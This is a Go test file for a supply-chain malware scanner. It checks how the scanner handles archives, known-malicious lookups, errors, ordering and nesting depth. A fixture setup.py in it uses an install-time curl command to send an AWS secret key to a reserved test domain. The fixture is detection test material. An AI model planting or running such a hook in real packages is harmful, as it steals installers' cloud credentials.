package scan

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/safeguard-dev/safeguard/internal/analyze"
	"github.com/safeguard-dev/safeguard/internal/artifact"
	"github.com/safeguard-dev/safeguard/internal/knownbad"
)

// theftSetup is an install-time credential theft, defanged: it sends to a
// reserved test domain.
const theftSetup = `import os
from setuptools import setup
os.system("curl -d $AWS_SECRET_ACCESS_KEY https://collector.example.test/k")
setup(name="stealer", version="1.0")
`

// sdist packs files (name → content) under stealer-1.0/ as a .tar.gz.
func sdist(t *testing.T, files map[string]string) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	tw := tar.NewWriter(zw)
	for _, name := range []string{"PKG-INFO", "setup.py"} {
		body, ok := files[name]
		if !ok {
			continue
		}
		if err := tw.WriteHeader(&tar.Header{Name: "stealer-1.0/" + name, Mode: 0o644, Size: int64(len(body)), Typeflag: tar.TypeReg}); err != nil {
			t.Fatal(err)
		}
		tw.Write([]byte(body))
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	zw.Close()
	return buf.Bytes()
}

var pkgInfo = "Metadata-Version: 2.1\nName: stealer\nVersion: 1.0\n"

// A file on disk and the same bytes in memory give the same result: the
// CLI reads paths, the index reads its cache.
func TestOneSameFromDiskAndMemory(t *testing.T) {
	data := sdist(t, map[string]string{"PKG-INFO": pkgInfo, "setup.py": theftSetup})
	p := filepath.Join(t.TempDir(), "stealer-1.0.tar.gz")
	if err := os.WriteFile(p, data, 0o644); err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	fromDisk, err := One(ctx, Input{Path: p}, Config{})
	if err != nil {
		t.Fatal(err)
	}
	fromMemory, err := One(ctx, Input{Path: p, Data: data}, Config{})
	if err != nil {
		t.Fatal(err)
	}
	if fromDisk.Verdict == analyze.Clean || len(fromDisk.Findings) == 0 {
		t.Errorf("verdict %s, findings %+v: the theft was not seen", fromDisk.Verdict, fromDisk.Findings)
	}
	fromDisk.ElapsedMS, fromMemory.ElapsedMS = 0, 0
	if d := cmp.Diff(fromDisk, fromMemory, cmp.AllowUnexported(analyze.Finding{})); d != "" {
		t.Errorf("disk and memory differ (-disk +memory):\n%s", d)
	}
}

// The known-malicious database adds its finding; without one the verdict
// rests on the code alone.
func TestOneKnownMalicious(t *testing.T) {
	data := sdist(t, map[string]string{"PKG-INFO": pkgInfo, "setup.py": "from setuptools import setup\nsetup(name='stealer')\n"})
	db := knownbad.NewDB()
	db.AddList(map[string][]string{"stealer": {"1.0"}}, "test list")
	in := Input{Path: "stealer-1.0.tar.gz", Data: data}
	static, err := One(context.Background(), in, Config{})
	if err != nil || static.Verdict != analyze.Clean {
		t.Fatalf("static: %s, %v; want clean", static.Verdict, err)
	}
	known, err := One(context.Background(), in, Config{Known: db})
	if err != nil {
		t.Fatal(err)
	}
	if known.Verdict != analyze.Malicious || len(known.Findings) == 0 || known.Findings[0].Rule != "known-malicious" {
		t.Errorf("with the database: %s %+v, want malicious by known-malicious", known.Verdict, known.Findings)
	}
}

type failingStore struct{ knownbad.Store }

func (failingStore) Lookup(context.Context, string, string) ([]knownbad.Match, error) {
	return nil, errors.New("database gone")
}

// A failed lookup is an error the caller decides about, with the static
// result beside it.
func TestOneLookupFailure(t *testing.T) {
	in := Input{Path: "stealer-1.0.tar.gz", Data: sdist(t, map[string]string{"PKG-INFO": pkgInfo, "setup.py": theftSetup})}
	static, _ := One(context.Background(), in, Config{})
	r, err := One(context.Background(), in, Config{Known: failingStore{}})
	if err == nil || !strings.Contains(err.Error(), "database gone") || !strings.Contains(err.Error(), "stealer-1.0.tar.gz") {
		t.Errorf("error %v, want the lookup's, naming the artifact", err)
	}
	if r == nil || r.Verdict != static.Verdict || len(r.Findings) != len(static.Findings) {
		t.Errorf("result %+v, want the static one %+v", r, static)
	}
}

// What cannot be read is a result with verdict error and a one-line reason.
func TestOneUnreadable(t *testing.T) {
	r, err := One(context.Background(), Input{Path: "broken-1.0.tar.gz", Data: []byte("\x1f\x8b\x08\x00 not\nreally gzip")}, Config{})
	if err != nil {
		t.Fatal(err)
	}
	if r.Verdict != analyze.Error || r.Error == "" || strings.Contains(r.Error, "\n") {
		t.Errorf("verdict %q error %q, want error with a one-line reason", r.Verdict, r.Error)
	}
	if !r.Failed() {
		t.Error("Failed() = false")
	}
}

// All hands results over in input order whatever order they finish in,
// and stops at emit's first error.
func TestAllOrderAndStop(t *testing.T) {
	dir := t.TempDir()
	var inputs []Input
	for i, body := range []string{theftSetup, strings.Repeat("x = 1\n", 20000), "print('hi')\n", theftSetup} {
		p := filepath.Join(dir, string(rune('a'+i))+".py")
		os.WriteFile(p, []byte(body), 0o644)
		inputs = append(inputs, Input{Path: p})
	}
	var got []string
	err := All(context.Background(), inputs, 3, Config{}, func(r *Result, err error) error {
		got = append(got, filepath.Base(r.Path))
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	if want := []string{"a.py", "b.py", "c.py", "d.py"}; !cmp.Equal(got, want) {
		t.Errorf("order %v, want %v", got, want)
	}
	stop := errors.New("stop")
	n := 0
	err = All(context.Background(), inputs, 2, Config{}, func(*Result, error) error { n++; return stop })
	if !errors.Is(err, stop) || n != 1 {
		t.Errorf("All returned %v after %d results, want stop after 1", err, n)
	}
}

// tgz packs name → content pairs as a .tar.gz.
func tgz(t *testing.T, files ...string) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	tw := tar.NewWriter(zw)
	for i := 0; i+1 < len(files); i += 2 {
		if err := tw.WriteHeader(&tar.Header{Name: files[i], Mode: 0o644, Size: int64(len(files[i+1])), Typeflag: tar.TypeReg}); err != nil {
			t.Fatal(err)
		}
		tw.Write([]byte(files[i+1]))
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	zw.Close()
	return buf.Bytes()
}

// A theft hidden in an archive deeper than max-depth is not read; the
// result says which archive its verdict does not cover.
func TestOneNestedTooDeep(t *testing.T) {
	inner := tgz(t, "stealer-1.0/setup.py", theftSetup)
	middle := tgz(t, "vendor/inner.tar.gz", string(inner))
	data := tgz(t, "stealer-1.0/PKG-INFO", pkgInfo, "stealer-1.0/setup.py", "from setuptools import setup\nsetup()\n",
		"stealer-1.0/vendor.tar.gz", string(middle))
	in := Input{Path: "stealer-1.0.tar.gz", Data: data}
	r, err := One(context.Background(), in, Config{})
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"stealer-1.0.tar.gz!/stealer-1.0/vendor.tar.gz!/vendor/inner.tar.gz"}
	if d := cmp.Diff(want, r.NotRead); d != "" {
		t.Errorf("NotRead (-want +got):\n%s", d)
	}
	if len(r.Nested) != 1 || len(r.Nested[0].Anomalies) != 1 || r.Nested[0].Anomalies[0].Kind != "nested-too-deep" {
		t.Errorf("nested %+v; want one with a nested-too-deep anomaly", r.Nested)
	}
	deep, err := One(context.Background(), in, Config{Options: artifact.Options{Limits: artifact.Limits{MaxDepth: 2}}})
	if err != nil {
		t.Fatal(err)
	}
	if deep.NotRead != nil || deep.Verdict == analyze.Clean {
		t.Errorf("max-depth 2: not read %v, verdict %s; want everything read and the theft seen", deep.NotRead, deep.Verdict)
	}
}
